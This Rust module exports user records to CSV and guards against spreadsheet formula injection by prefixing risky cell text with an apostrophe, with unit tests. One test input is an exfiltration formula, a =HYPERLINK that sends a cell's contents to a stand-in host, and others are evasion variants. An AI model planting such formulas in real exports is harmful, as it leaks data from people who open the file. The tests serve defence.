//! Users as rows of CSV. Pure.
//!
//! A text that a spreadsheet would take for a formula is led by an apostrophe, wherever a cell can begin: at its
//! beginning, and after a semicolon, a tab or the end of a line, where programs that do not divide at commas begin one.
//! Numbers stay as they are, since they are nothing but themselves; so does a phone number that no spreadsheet can
//! calculate with, such as `+44 20 7946 0958`.

use crate::clock::rfc3339;
use crate::config::{FieldType, Form};
use crate::user::{EndedBy, FieldValue, User};

/// The columns around those of the form's fields.
const BEFORE: [&str; 3] = ["id", "state", "email"];
const AFTER: [&str; 7] =
    ["consent_version", "language", "created_at", "confirmed_at", "ended_at", "ended_by", "other_fields"];

/// What a formula begins with; spreadsheets of East Asia read the wide forms alike.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// The columns of a form in CSV: the fields in their order, between what every user has.
#[derive(Debug)]
pub struct Columns {
    fields: Vec<(String, FieldType)>,
}

impl Columns {
    /// Those of every field but the address, which has a column in any case.
    pub fn of(form: &Form) -> Self {
        let fields = form.fields.iter().filter(|field| field.kind != FieldType::Email);
        Self { fields: fields.map(|field| (field.name.clone(), field.kind)).collect() }
    }

    /// The names. A field that is called like another column is `form.<name>`, which no field can be called.
    pub fn heading(&self) -> Vec<String> {
        let taken = |name: &str| BEFORE.contains(&name) || AFTER.contains(&name);
        let field = |name: &String| if taken(name) { format!("form.{name}") } else { name.clone() };
        let own = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
        [own(&BEFORE), self.fields.iter().map(|(name, _)| field(name)).collect(), own(&AFTER)].concat()
    }

    /// The cells of a user, as many as there are names. Fields that the form no longer has stand in the last one.
    pub fn row(&self, user: &User) -> Vec<String> {
        let answers = &user.answers;
        let time = |at: Option<jiff::Timestamp>| at.map(rfc3339).unwrap_or_default();
        let mut row = vec![user.id.to_string(), user.state.name().to_owned(), harmless(&answers.email)];
        row.extend(
            self.fields
                .iter()
                .map(|(name, kind)| answers.fields.get(name).map(|value| cell(value, *kind)).unwrap_or_default()),
        );
        row.push(harmless(answers.consent.as_ref().map_or("", |consent| &consent.version)));
        row.push(harmless(answers.language.as_deref().unwrap_or_default()));
        row.extend([rfc3339(user.created_at), time(user.confirmed_at), time(user.ended_at)]);
        row.push(user.ended_by.map_or("", EndedBy::name).to_owned());
        let is_declared = |name: &String| self.fields.iter().any(|(declared, _)| declared == name);
        let others = answers.fields.iter().filter(|(name, _)| !is_declared(name));
        let others: serde_json::Map<_, _> =
            others.map(|(name, value)| (name.clone(), serde_json::json!(value))).collect();
        row.push(if others.is_empty() {
            String::new()
        } else {
            harmless(&serde_json::Value::Object(others).to_string())
        });
        row
    }
}

fn cell(value: &FieldValue, kind: FieldType) -> String {
    match value {
        FieldValue::Flag(flag) => flag.to_string(),
        FieldValue::Integer(number) => number.to_string(),
        FieldValue::Number(number) => number.to_string(),
        FieldValue::Text(text) if kind == FieldType::Phone && is_plain_phone(text) => text.clone(),
        FieldValue::Text(text) => harmless(text),
        FieldValue::Choices(choices) => harmless(&choices.join("; ")),
    }
}

/// A plus and digits in groups: with no operator between them there is nothing to calculate.
fn is_plain_phone(text: &str) -> bool {
    let digits = text.strip_prefix('+').unwrap_or(text);
    digits.starts_with(|first: char| first.is_ascii_digit())
        && digits.bytes().all(|byte| byte.is_ascii_digit() || byte == b' ')
}

/// The text with an apostrophe before everything that could be a formula.
fn harmless(text: &str) -> String {
    let mut safe = String::with_capacity(text.len() + 1);
    if text.starts_with(['\t', '\r', '\n']) {
        safe.push('\'');
    }
    let mut begins = true;
    for letter in text.chars() {
        if begins && FORMULA.contains(&letter) {
            safe.push('\'');
        }
        begins = match letter {
            ';' | '\t' | '\r' | '\n' => true,
            // A quotation mark opens a cell that is quoted, and what it leads is the cell's beginning still.
            '"' => begins,
            // What a spreadsheet drops before it reads on.
            letter => begins && (letter.is_whitespace() || letter.is_control() || is_invisible(letter)),
        };
        safe.push(letter);
    }
    safe
}

fn is_invisible(letter: char) -> bool {
    matches!(letter, '\u{AD}' | '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_is_a_formula() {
        for (text, safe) in [
            ("=1+1", "'=1+1"),
            ("+44 20", "'+44 20"),
            ("-3", "'-3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("  =1", "  '=1"),
            ("\u{a0}\u{feff}=1", "\u{a0}\u{feff}'=1"),
            ("＝1", "'＝1"),
            ("　＠x", "　'＠x"),
            ("\tx", "'\tx"),
            ("\r=x", "'\r'=x"),
            ("\nx", "'\nx"),
            ("a;=1", "a;'=1"),
            ("a\n -b", "a\n '-b"),
            ("x;\"=HYPERLINK(\"http://e/\"&A1);", "x;\"'=HYPERLINK(\"http://e/\"&A1);"),
            ("a;\"=1+1;", "a;\"'=1+1;"),
            ("\" \"\"=1", "\" \"\"'=1"),
            ("a \"=1\"", "a \"=1\""),
            ("1-2=3", "1-2=3"),
            ("ada@example.com", "ada@example.com"),
            ("'=1", "'=1"),
            ("", ""),
        ] {
            assert_eq!(harmless(text), safe, "{text:?}");
        }
    }

    #[test]
    fn numbers_and_plain_phone_numbers_stay_as_they_are() {
        assert_eq!(cell(&FieldValue::Integer(-3), FieldType::Integer), "-3");
        assert_eq!(cell(&FieldValue::Number(-0.5), FieldType::Number), "-0.5");
        let phone = |text: &str, kind| cell(&FieldValue::Text(text.into()), kind);
        assert_eq!(phone("+44 20 7946 0958", FieldType::Phone), "+44 20 7946 0958");
        assert_eq!(phone("+44-20-7946", FieldType::Phone), "'+44-20-7946");
        assert_eq!(phone("+44 20 7946 0958", FieldType::Text), "'+44 20 7946 0958");
    }
}
